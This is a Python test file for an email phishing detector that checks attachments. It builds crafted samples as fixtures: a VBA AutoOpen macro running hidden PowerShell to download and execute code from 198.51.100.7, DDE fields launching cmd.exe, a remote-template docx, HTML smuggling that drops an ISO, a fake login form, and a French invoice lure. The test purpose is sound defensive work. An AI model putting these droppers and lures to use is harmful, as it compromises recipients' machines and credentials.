"""The attachments check on documents: Office (template injection, DDE, macro formats),
PDF (JavaScript, links, QR codes), HTML and SVG smuggling, QR codes in images; crafted
files built here and real ones from the corpora."""

from __future__ import annotations

import io
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

import zxingcpp
from PIL import Image
from tests.conftest import shared_data
from tests.phishing.checks.test_attachments import attachment, codes, message, reasons, zip_of
from tests.phishing.checks.vba_craft import docm, vba_project

from tocsin.phishing.analyze import analyze_bytes
from tocsin.phishing.checks.attachments import attachment_links
from tocsin.phishing.model import Source, Verdict
from tocsin.phishing.parse import parse_message

# --- Office -------------------------------------------------------------------------------

_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx(document: bytes, rels: bytes = b"") -> bytes:
    members = {
        "[Content_Types].xml": _TYPES,
        "word/document.xml": document,
        "word/_rels/settings.xml.rels": rels or b"<Relationships/>",
    }
    return zip_of(members)


def test_a_remote_template_is_template_injection() -> None:
    rels = (
        f'<Relationships><Relationship Id="rId1" Type="{_REL}attachedTemplate" '
        f'Target="http://203.0.113.9/modele.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    sample = attachment("convocation.docx", docx(b"<w:document/>", rels))
    found = reasons(sample)
    assert any(r.code == "attachment.remote-template" and "203.0.113.9" in r.detail for r in found)
    links = attachment_links(message(sample))
    assert [(link.url, link.origin) for link in links] == [
        ("http://203.0.113.9/modele.dotm", "office")
    ]


def test_a_dde_field_split_across_runs_is_found() -> None:
    document = (
        b"<w:document><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO "
        b'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:document>'
    )
    assert "attachment.dde" in codes(attachment("note.docx", docx(document)))


def test_an_ordinary_docx_gives_no_reason_and_a_docm_name_is_noted() -> None:
    plain = docx(b"<w:document><w:t>Bonjour</w:t></w:document>")
    assert codes(attachment("note.docx", plain)) == set()
    assert codes(attachment("note.docm", plain)) == {"attachment.macro-format"}


def test_rtf_with_a_dde_field_is_flagged() -> None:
    rtf = rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe}}}"
    assert "attachment.dde" in codes(attachment("doc.rtf", rtf))


def test_real_docx_and_doc_attachments_are_read_without_false_alarm() -> None:
    for folder, name in (
        ("phishing_pot/email", "sample-3242.eml"),
        ("spamassassin/spam-2", "01359.deafa1d42658c6624c6809a446b7f369.txt"),
    ):
        path = shared_data("mail", *folder.split("/"), name)
        parsed = parse_message(path.read_bytes(), Source(str(path)))
        assert any(a.filename.endswith((".docx", ".doc")) for a in parsed.attachments)
        found = list(reasons(*parsed.attachments))
        assert [r for r in found if r.points > 0] == [], name


# --- PDF ----------------------------------------------------------------------------------


def pdf(*objects: bytes) -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalogue."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def test_a_pdf_with_javascript_and_a_link() -> None:
    data = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
        b"<< /S /JavaScript /JS (app.alert\\('Bonjour'\\);) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
        b"/A << /S /URI /URI (https://ameli-remboursement.example/connexion) >> >>",
    )
    sample = attachment("remboursement.pdf", data, "application/pdf")
    found = {r.code: r for r in reasons(sample)}
    assert {"attachment.pdf-javascript", "attachment.pdf-autoaction"} <= set(found)
    assert "ameli-remboursement.example" in found["attachment.pdf-link"].detail
    links = attachment_links(message(sample))
    assert ("https://ameli-remboursement.example/connexion", "pdf") in {
        (link.url, link.origin) for link in links
    }


def test_hex_escaped_names_do_not_hide_javascript() -> None:
    data = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
    )
    assert "attachment.pdf-javascript" in codes(attachment("a.pdf", data))


def _qr(url: str, scale: int = 4) -> Image.Image:
    code = zxingcpp.create_barcode(url, zxingcpp.BarcodeFormat.QRCode)
    view = memoryview(code.to_image(scale=scale))
    return Image.frombytes("L", (view.shape[1], view.shape[0]), view.tobytes())


def _image_pdf(image: Image.Image, encoding: str) -> bytes:
    """The French "facture" with a QR code to pay, as a PDF: one page, one image."""
    if encoding == "jpeg":
        buffer = io.BytesIO()
        image.save(buffer, "JPEG", quality=95)
        stream, filter_ = buffer.getvalue(), b"/DCTDecode"
    else:
        stream, filter_ = zlib.compress(image.tobytes()), b"/FlateDecode"
    content = b"BT /F1 14 Tf 72 770 Td (Facture n 2024-118 - payer par QR code) Tj ET " + (
        b"q 200 0 0 200 72 500 cm /Im0 Do Q"
    )
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /Im0 5 0 R >> /Font << /F1 6 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        % image.size
        + b"/BitsPerComponent 8 /Filter %s /Length %d >>\nstream\n" % (filter_, len(stream))
        + stream
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def test_a_qr_code_invoice_pdf_is_quishing() -> None:
    url = "https://paiement-facture-chu.example/regler?ref=2024-118"
    for encoding in ("flate", "jpeg"):
        sample = attachment("Facture_2024-118.pdf", _image_pdf(_qr(url), encoding))
        found = [r for r in reasons(sample) if r.code == "attachment.qr-url"]
        assert len(found) == 1, encoding
        assert "paiement-facture-chu.example" in found[0].detail
        assert ("qr", url) in {
            (link.origin, link.url) for link in attachment_links(message(sample))
        }


def test_a_qr_code_image_is_quishing_and_other_images_are_not() -> None:
    buffer = io.BytesIO()
    _qr("https://doctolib-verification.example/rdv").save(buffer, "PNG")
    inline = attachment("image001.png", buffer.getvalue(), "image/png")
    found = [r for r in reasons(inline) if r.code == "attachment.qr-url"]
    assert found and "host doctolib-verification.example" in found[0].detail
    plain = io.BytesIO()
    Image.new("RGB", (300, 200), "white").save(plain, "PNG")
    assert codes(attachment("logo.png", plain.getvalue(), "image/png")) == set()


def test_a_qr_code_of_plain_text_is_not_a_link() -> None:
    buffer = io.BytesIO()
    _qr("Patient 42 - chambre 12").save(buffer, "PNG")
    assert codes(attachment("etiquette.png", buffer.getvalue(), "image/png")) == set()


def test_an_image_too_large_to_decode_is_skipped_unread() -> None:
    header = Image.new("L", (1, 1))
    buffer = io.BytesIO()
    header.save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    data[16:24] = (20000).to_bytes(4, "big") + (20000).to_bytes(4, "big")  # IHDR: 400 Mpx
    found = reasons(attachment("big.png", bytes(data), "image/png"))
    assert [(r.code, r.points) for r in found] == [("attachment.unreadable", 0)]


def test_real_phishing_pdfs() -> None:
    locked = shared_data("mail", "phishing_pot", "email", "sample-1306.eml")
    parsed = parse_message(locked.read_bytes(), Source(str(locked)))
    assert "attachment.pdf-encrypted" in codes(*parsed.attachments)
    lure = shared_data("mail", "phishing_pot", "email", "sample-1458.eml")
    parsed = parse_message(lure.read_bytes(), Source(str(lure)))
    links = attachment_links(parsed)
    assert "https://diminua.me/f/7iF" in {link.url for link in links}


# --- HTML and SVG -------------------------------------------------------------------------

SMUGGLING = """<html><body><script>
var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAA4fug4AtAnNIbgBTM0hVGhp";
var bytes = Uint8Array.from(atob(b64), c => c.charCodeAt(0));
var blob = new Blob([bytes], {type: "application/octet-stream"});
var a = document.createElement("a");
a.href = URL.createObjectURL(blob); a.download = "Facture.iso"; a.click();
</script><p>Chargement de votre facture...</p></body></html>"""


def test_html_smuggling_in_an_attachment_and_in_the_body() -> None:
    found = reasons(attachment("Facture.html", SMUGGLING.encode(), "text/html"))
    assert [r.code for r in found] == ["attachment.html-smuggling"]
    assert "Blob" in found[0].detail
    assert "attachment.html-smuggling" in codes(html=SMUGGLING)


def test_a_meta_refresh_to_data_is_smuggling() -> None:
    page = '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PGgxPng=">'
    assert "attachment.html-smuggling" in codes(attachment("a.htm", page.encode()))


def test_a_local_login_page_is_flagged() -> None:
    page = (
        "<html><body><h1>Microsoft 365</h1><form action='https://collect.example/p'>"
        "<input name=login><input type=password name=pw></form></body></html>"
    )
    assert "attachment.html-password" in codes(attachment("Message_vocal.html", page.encode()))


def test_an_svg_with_script_is_flagged_and_a_plain_one_is_not() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example"</script></svg>'
    assert "attachment.svg-script" in codes(attachment("logo.svg", svg, "image/svg+xml"))
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
    assert codes(attachment("logo.svg", plain, "image/svg+xml")) == set()


def test_a_real_smuggling_page_of_phishing_pot() -> None:
    path = shared_data("mail", "phishing_pot", "email", "sample-432.eml")
    parsed = parse_message(Path(path).read_bytes(), Source(str(path)))
    assert "attachment.html-smuggling" in codes(*parsed.attachments)


def test_zip_holding_a_docx_is_opened_as_a_document() -> None:
    rels = (
        f'<Relationships><Relationship Id="rId9" Type="{_REL}oleObject" '
        f'Target="https://files.example/x.rtf" TargetMode="External"/></Relationships>'
    ).encode()
    archive = zip_of({"commande.docx": docx(b"<w:document/>", rels)})
    found = reasons(attachment("commande.zip", archive))
    assert any(r.code == "attachment.office-external" and "commande.zip" in r.detail for r in found)
    assert zipfile.is_zipfile(io.BytesIO(archive))


# --- VBA macros: projects written by vba_craft (MS-OVBA / MS-CFB), no sample committed ----
_DROPPER = """Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim s As String
    s = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    CreateObject("WScript.Shell").Run s, 0
End Sub
"""
_HARMLESS = """Attribute VB_Name = "Module1"
Function Total(a As Double, b As Double) As Double
    Total = a + b
End Function
"""


def test_a_docm_whose_macro_runs_on_opening_and_starts_powershell() -> None:
    found = {r.code: r for r in reasons(attachment("Facture_2026-114.docm", docm(_DROPPER)))}
    assert {"attachment.macro", "attachment.macro-autoexec", "attachment.macro-suspicious"} <= set(
        found
    )
    assert "AutoOpen" in found["attachment.macro-autoexec"].detail
    assert "powershell" in found["attachment.macro-suspicious"].detail
    assert "attachment.macro-format" not in found  # the macro itself is the stronger reason


def test_a_harmless_macro_is_still_a_macro_but_nothing_more() -> None:
    assert codes(attachment("budget.xls", vba_project(_HARMLESS))) == {"attachment.macro"}


def test_a_french_invoice_with_a_macro_is_phishing() -> None:
    mail = EmailMessage()
    mail["From"] = "Service Comptabilité <compta@fournisseur-medical.example>"
    mail["To"] = "secretariat.cardio@chu-exemple.fr"
    mail["Subject"] = "Facture impayée n° 2026-114 — relance avant pénalités"
    mail.set_content(
        "Bonjour,\n\nSauf erreur de notre part, la facture ci-jointe reste impayée. Merci "
        "d'activer le contenu du document pour afficher le détail et de régulariser sous "
        "48 heures afin d'éviter des pénalités de retard.\n\nCordialement,\nLa comptabilité"
    )
    mail.add_attachment(
        docm(_DROPPER),
        maintype="application",
        subtype="vnd.ms-word.document.macroEnabled.12",
        filename="Facture_2026-114.docm",
    )
    analysis = analyze_bytes(mail.as_bytes(), Source("facture.eml"))
    assert analysis.verdict is Verdict.PHISHING, [(r.code, r.points) for r in analysis.reasons]
    assert {"attachment.macro", "attachment.macro-autoexec"} <= {r.code for r in analysis.reasons}
    assert analysis.indicators.hashes  # the attachment's SHA-256, to share
